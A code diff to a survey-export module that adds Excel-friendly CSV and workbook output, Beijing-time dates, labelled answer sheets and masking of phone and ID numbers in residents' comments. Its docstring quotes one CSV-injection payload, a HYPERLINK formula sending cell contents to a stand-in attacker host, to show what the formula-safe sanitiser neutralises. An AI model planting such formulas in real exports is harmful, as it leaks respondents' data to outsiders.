@@ -5,7 +5,15 @@ labels, and the codebook that explains every column.
 All formats start from the one adapter (:func:`survey.adapter.wave_responses_frame`), so
 an exported CSV is exactly what the scoring engine reads, and importing it again
 (:mod:`survey.services.imports`) stores the same answers.  Residents' comments are left
-out unless asked for: they may hold personal details and are never published raw.
+out unless asked for: they may hold personal details and are never published raw; when
+they are included, phone and ID numbers in them are masked
+(:mod:`survey.services.masking`; comments are masked when stored too).
+
+For the office's Excel on Chinese Windows: every CSV starts with a UTF-8 byte-order mark
+(without it Excel reads UTF-8 as GBK and shows mojibake); the workbook has a sheet with
+the answers as words (性别 男, 非常满意, 西城街道 …) besides the coded sheet, and times as
+real Excel dates in Beijing time; file names carry the Beijing date and time.  The CSV in
+the responses contract keeps ``submitted_at`` as ISO 8601 in UTC, as the contract says.
 
 Every text cell of every format goes through :func:`formula_safe` (OWASP's CSV-injection
 rule): a resident's comment such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
@@ -32,7 +40,9 @@ from sqlalchemy.orm import Session
 
 from scoring.questionnaire import COMMON_ID, DEFAULT_SCALE, DOMAIN_LABELS_ZH
 from survey.adapter import FIXED_COLUMNS, wave_responses_frame
+from survey.localtime import to_local
 from survey.models import Wave, utcnow
+from survey.services.masking import mask_personal_details
 from survey.services.questionnaires import wave_questionnaires
 
 #: ``manyi export --format`` values and the admin screen's choices.
@@ -70,6 +80,19 @@ COLUMN_LABELS: dict[str, tuple[str, str]] = {
 
 CHANNEL_LABELS = {"qr": ("扫码", "QR code"), "phone": ("电话", "Telephone"), "paper": ("纸质问卷", "Paper")}
 STATE_LABELS = {"submitted": ("已提交", "Submitted"), "partial": ("未完成", "Partial")}
+#: Collection flags in words (the labelled sheet of the workbook).
+FLAG_LABELS = {
+    "duplicate_browser": ("同一浏览器重复提交", "Repeat from the same browser"),
+    "ip_burst": ("同一网络地址短时间内大量提交", "Many from one network address within an hour"),
+    "shared_phone": ("家人共用一部手机（已说明）", "Another family member on the same phone (declared)"),
+    "rate_limited": ("提交过于频繁", "Rate limited"),
+}
+#: The label of ``submitted_at`` where it is shown as a Beijing time (the workbook).
+SUBMITTED_AT_BEIJING = ("提交时间（北京时间）", "Submitted at (Beijing time, UTC+8)")
+#: How the workbook shows dates and times.
+EXCEL_DATETIME = "yyyy-mm-dd hh:mm:ss"
+#: UTF-8 byte-order mark: Excel on Chinese Windows reads a CSV without it as GBK.
+UTF8_BOM = b"\xef\xbb\xbf"
 MISSING_NOTE = ("空白 = 缺失（含“不适用/不清楚”）", "empty = missing (includes 'not applicable / don't know')")
 
 _SPSS_NAME = re.compile(r"[^A-Za-z0-9_]")
@@ -174,6 +197,8 @@ def response_frame(
     frame = wave_responses_frame(session, wave, states=states, include_comments=include_comments)
     for column in item_columns(frame):
         frame[column] = frame[column].round().astype("Int64")
+    if "comment" in frame.columns:  # comments stored before masking existed, too
+        frame["comment"] = frame["comment"].map(mask_personal_details, na_action="ignore")
     return frame
 
 
@@ -200,8 +225,11 @@ def spss_names(columns: Sequence[str]) -> dict[str, str]:
     return names
 
 
-def codebook(wave: Wave, columns: Sequence[str]) -> list[CodebookEntry]:
-    """Describe every column of an export of ``wave`` (labels from its questionnaires)."""
+def codebook(wave: Wave, columns: Sequence[str], *, beijing_times: bool = False) -> list[CodebookEntry]:
+    """Describe every column of an export of ``wave`` (labels from its questionnaires).
+
+    With ``beijing_times`` (the workbook), ``submitted_at`` is described as a Beijing time.
+    """
     questionnaires = wave_questionnaires(wave)
     common = questionnaires.common
     versions = {link.questionnaire_id: link.version.content_hash for link in wave.questionnaires}
@@ -214,7 +242,7 @@ def codebook(wave: Wave, columns: Sequence[str]) -> list[CodebookEntry]:
     entries = []
     for column in columns:
         if column in COLUMN_LABELS:
-            zh, en = COLUMN_LABELS[column]
+            zh, en = SUBMITTED_AT_BEIJING if beijing_times and column == "submitted_at" else COLUMN_LABELS[column]
             kind, values = "string", ()
             if column in ("sex", "age_group", "town"):
                 kind, values = "category", choices(column)
@@ -230,6 +258,8 @@ def codebook(wave: Wave, columns: Sequence[str]) -> list[CodebookEntry]:
                 kind = "list"
                 if column == "services_used":
                     values = tuple((domain, label, domain) for domain, label in DOMAIN_LABELS_ZH.items())
+                else:
+                    values = tuple((flag, *labels) for flag, labels in FLAG_LABELS.items())
             questionnaire = COMMON_ID if column in ("sex", "age_group", "town", "services_used", "comment") else ""
             entries.append(
                 CodebookEntry(
@@ -298,26 +328,84 @@ def long_frame(frame: pd.DataFrame) -> pd.DataFrame:
 
 
 def _csv_bytes(frame: pd.DataFrame) -> bytes:
-    """UTF-8 CSV with CRLF line ends (RFC 4180), so that a cell holding a carriage return
-    is quoted: with ``\n`` line ends Python's writer leaves a lone ``\r`` unquoted, and a
-    spreadsheet would start a new row there — where ``=…`` after it would run."""
-    return _formula_safe_frame(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")
+    """UTF-8 CSV with a byte-order mark (Excel on Chinese Windows) and CRLF line ends (RFC
+    4180), so that a cell holding a carriage return is quoted: with ``\n`` line ends
+    Python's writer leaves a lone ``\r`` unquoted, and a spreadsheet would start a new row
+    there — where ``=…`` after it would run.  Readers of the contract (``scoring``, the
+    import) skip the mark."""
+    return UTF8_BOM + _formula_safe_frame(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")
 
 
-def _about_rows(wave: Wave, rows: int, *, include_partial: bool, include_comments: bool) -> list[tuple[str, str]]:
+def _beijing(value: Any) -> dt.datetime | None:
+    """An ISO 8601 time (or an aware datetime) as a naive Beijing time for an Excel date cell
+    (Excel dates carry no zone: the column's label says which)."""
+    if not isinstance(value, (str, dt.datetime)) or value == "":
+        return None  # None, NaN or NA: no time
+    moment = value if isinstance(value, dt.datetime) else dt.datetime.fromisoformat(str(value))
+    local = to_local(moment if moment.tzinfo else moment.replace(tzinfo=dt.UTC))
+    return local.replace(tzinfo=None) if local is not None else None
+
+
+def labelled_frame(frame: pd.DataFrame, entries: Sequence[CodebookEntry]) -> pd.DataFrame:
+    """The responses with words for codes: Chinese column labels, category and scale
+    labels (男, 60岁及以上, 非常满意), domain names for the services, flag descriptions,
+    Beijing times; empty stays empty (not applicable / don't know, or not asked)."""
+    columns: dict[str, Any] = {}
+    seen: set[str] = set()
+    for entry in entries:
+        series = frame[entry.variable]
+        header = entry.label_zh if entry.label_zh not in seen else f"{entry.label_zh}（{entry.variable}）"
+        seen.add(header)
+        if entry.variable == "submitted_at":
+            columns[header] = [_beijing(value) for value in series]
+            continue
+        labels = {code: zh for code, zh, _en in entry.values}
+        if entry.kind == "list":
+            columns[header] = [
+                "；".join(labels.get(part, part) for part in str(value).split(";") if part)
+                if isinstance(value, str)
+                else None
+                for value in series
+            ]
+        elif entry.kind in ("category", "likert") and labels:
+            columns[header] = [
+                None if value is None or pd.isna(value) else labels.get(str(value), str(value))
+                for value in series.astype(object)
+            ]
+        else:
+            columns[header] = series.astype(object).where(series.notna(), None).tolist()
+    return pd.DataFrame(columns)
+
+
+def _about_rows(
+    wave: Wave, rows: int, exported_at: dt.datetime, *, include_partial: bool, include_comments: bool
+) -> list[tuple[str, Any]]:
     return [
         ("调查 / Survey", wave.title_zh or wave.code),
         ("轮次 / Wave", wave.code),
-        ("导出时间 / Exported at (UTC)", utcnow().replace(microsecond=0).isoformat()),
+        ("导出时间（北京时间）/ Exported at (Beijing time)", _beijing(exported_at)),
         ("答卷数 / Responses", str(rows)),
         ("包含未完成答卷 / Partial responses included", "是 yes" if include_partial else "否 no"),
-        ("包含意见原文 / Comments included", "是 yes（不得公开 never publish）" if include_comments else "否 no"),
+        (
+            "包含意见原文 / Comments included",
+            "是 yes（电话、身份证号已隐去；不得公开 phone and ID numbers masked; never publish）"
+            if include_comments
+            else "否 no",
+        ),
         ("缺失值 / Missing values", f"{MISSING_NOTE[0]} / {MISSING_NOTE[1]}"),
-        ("格式 / Layout", "一行一份答卷，列见 codebook / one row per response; columns in the codebook sheet"),
+        (
+            "工作表 / Sheets",
+            "“答卷（文字）”用文字显示答案，时间为北京时间；“responses”为编码，列见 codebook / "
+            "'答卷（文字）' shows the answers in words, times in Beijing time; 'responses' holds the codes, "
+            "columns in the codebook sheet",
+        ),
     ]
 
 
-def _xlsx_bytes(frame: pd.DataFrame, entries: Sequence[CodebookEntry], about: list[tuple[str, str]]) -> bytes:
+LABELLED_SHEET = "答卷（文字）"
+
+
+def _xlsx_bytes(frame: pd.DataFrame, entries: Sequence[CodebookEntry], about: list[tuple[str, Any]]) -> bytes:
     from openpyxl import Workbook
     from openpyxl.cell import WriteOnlyCell
     from openpyxl.styles import Font
@@ -327,7 +415,8 @@ def _xlsx_bytes(frame: pd.DataFrame, entries: Sequence[CodebookEntry], about: li
 
     def cells(sheet: Any, values: Sequence[Any], *, font: Font | None = None) -> list[Any]:
         """Write-only cells; text is formula-safe and typed as text, never as a formula
-        (openpyxl would otherwise make any string starting with ``=`` a formula)."""
+        (openpyxl would otherwise make any string starting with ``=`` a formula); times
+        are Excel dates."""
         row = []
         for value in values:
             if isinstance(value, str):
@@ -335,27 +424,36 @@ def _xlsx_bytes(frame: pd.DataFrame, entries: Sequence[CodebookEntry], about: li
                 cell.data_type = "s"
             else:
                 cell = WriteOnlyCell(sheet, value=value)
+                if isinstance(value, dt.datetime):
+                    cell.number_format = EXCEL_DATETIME
             if font is not None:
                 cell.font = font
             row.append(cell)
         return row
 
+    def table(sheet: Any, data: pd.DataFrame) -> None:
+        sheet.append(cells(sheet, list(data.columns), font=bold))
+        columns = [data[column].astype(object).where(data[column].notna(), None).tolist() for column in data.columns]
+        for row in zip(*columns):
+            sheet.append(cells(sheet, row))
+
     about_sheet = workbook.create_sheet("说明 About")
     for key, value in about:
         about_sheet.append(cells(about_sheet, [key, value]))
 
+    labelled_sheet = workbook.create_sheet(LABELLED_SHEET)
+    labelled_sheet.freeze_panes = "B2"
+    table(labelled_sheet, labelled_frame(frame, entries))
+
     data_sheet = workbook.create_sheet("responses")
     data_sheet.freeze_panes = "B2"
-    data_sheet.append(cells(data_sheet, list(frame.columns), font=bold))
-    columns = [frame[column].astype(object).where(frame[column].notna(), None).tolist() for column in frame.columns]
-    for row in zip(*columns):
-        data_sheet.append(cells(data_sheet, row))
+    coded = frame.copy()
+    if "submitted_at" in coded.columns:
+        coded["submitted_at"] = [_beijing(value) for value in coded["submitted_at"]]
+    table(data_sheet, coded)
 
     book_sheet = workbook.create_sheet("codebook")
-    table = codebook_frame(entries)
-    book_sheet.append(cells(book_sheet, list(table.columns), font=bold))
-    for row in table.itertuples(index=False):
-        book_sheet.append(cells(book_sheet, list(row)))
+    table(book_sheet, codebook_frame(entries))
 
     buffer = io.BytesIO()
     workbook.save(buffer)
@@ -406,7 +504,7 @@ def _sav_bytes(frame: pd.DataFrame, entries: Sequence[CodebookEntry], wave: Wave
             variable_value_labels=value_labels,
             variable_measure=measures,
             variable_format=formats,
-            note=f"Manyi export of wave {wave.code}, {utcnow().replace(microsecond=0).isoformat()} UTC",
+            note=f"Manyi export of wave {wave.code}, {_beijing(utcnow()):%Y-%m-%d %H:%M:%S} Beijing time (UTC+8)",
         )
         with open(path, "rb") as handle_in:
             return handle_in.read()
@@ -429,8 +527,9 @@ def export_wave(
     if format not in FORMATS:
         raise ExportError(f"unknown export format {format!r}; use one of {', '.join(FORMATS)}")
     frame = response_frame(session, wave, include_partial=include_partial, include_comments=include_comments)
-    entries = codebook(wave, list(frame.columns))
-    stamp = dt.date.today().isoformat()
+    entries = codebook(wave, list(frame.columns), beijing_times=format == "xlsx")
+    exported_at = utcnow()
+    stamp = f"{_beijing(exported_at):%Y-%m-%d-%H%M}"  # Beijing time, as the office reads it
     filename = f"manyi-{wave.code}-responses-{stamp}{_FILE_SUFFIX[format]}"
     if format == "csv":
         data = _csv_bytes(frame)
@@ -440,7 +539,9 @@ def export_wave(
         filename = f"manyi-{wave.code}-codebook-{stamp}.csv"
         data = _csv_bytes(codebook_frame(entries))
     elif format == "xlsx":
-        about = _about_rows(wave, len(frame), include_partial=include_partial, include_comments=include_comments)
+        about = _about_rows(
+            wave, len(frame), exported_at, include_partial=include_partial, include_comments=include_comments
+        )
         data = _xlsx_bytes(frame, entries, about)
     else:
         data = _sav_bytes(frame, entries, wave)
